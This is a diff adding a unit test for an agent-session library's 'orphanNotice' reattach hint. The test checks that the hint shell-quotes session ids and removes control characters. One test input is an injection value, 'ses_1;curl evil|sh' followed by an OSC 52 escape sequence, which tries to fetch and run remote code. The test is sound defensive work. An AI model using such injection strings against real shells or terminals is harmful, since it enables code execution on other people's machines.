@@ -200,6 +200,23 @@ describe("Errors", () => {
   })
 })
 
+describe("Errors.orphanNotice", () => {
+  it("quotes a hostile session id for the shell and shows no control character (issue 20 item 6, its sibling)", () => {
+    const notice = (sessionId: string) =>
+      Errors.orphanNotice(new Errors.ConnectionLost({ sessionId, mayStillBeRunning: true, attempts: 1, lastError: "x" }))
+    assert.strictEqual(
+      notice("ses_1"),
+      "session ses_1 may still be running at the service; reattach with: effect-agent-session attach ses_1"
+    )
+    const hostile = notice("ses_1;curl evil|sh\u001b]52;c;x\u0007")
+    assert.isDefined(hostile)
+    assert.include(hostile ?? "", "attach 'ses_1;curl evil|sh\\u{1b}]52;c;x\\u{7}'")
+    // eslint-disable-next-line no-control-regex
+    assert.notMatch(hostile ?? "", /[\u0000-\u001f\u007f-\u009f]/)
+    assert.include(notice("it's") ?? "", "attach 'it'\\''s'")
+  })
+})
+
 describe("Errors encode to JSON and back (issue 12 defect 13, issue 21)", () => {
   const encode = Schema.encodeSync(Errors.AgentSessionError)
   const decode = Schema.decodeUnknownSync(Errors.AgentSessionError)
